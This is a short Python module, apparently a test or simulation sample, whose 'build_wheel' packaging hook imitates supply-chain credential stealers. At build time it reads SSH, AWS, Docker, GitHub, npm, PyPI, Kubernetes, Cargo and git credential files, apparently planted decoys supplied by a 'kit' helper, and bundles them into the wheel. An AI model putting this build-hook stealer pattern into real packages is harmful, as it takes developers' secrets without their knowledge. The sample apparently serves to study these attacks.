"""Takes whatever it finds of the credential files that tools keep in a home directory.

One list, one loop, no finesse: what the stealers of 2025 and 2026 do first. A file that
is missing or closed is skipped. Nx (s1ngularity), litellm and mysten-metrics
(RUSTSEC-2026-0107) each had such a list, of up to fifty paths.
"""

import contextlib

import kit

PLACES = ("ssh-key", "aws", "docker", "github", "npm", "pypi", "kube", "cargo", "git")


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("sweep"):
        for place in PLACES:
            with contextlib.suppress(OSError):
                with open(kit.plant(place).path, "rb") as secret:
                    loot[f"{place}.bin"] = secret.read()
        kit.said("sweep", sorted(loot))
    return kit.wheel(wheel_directory, loot)
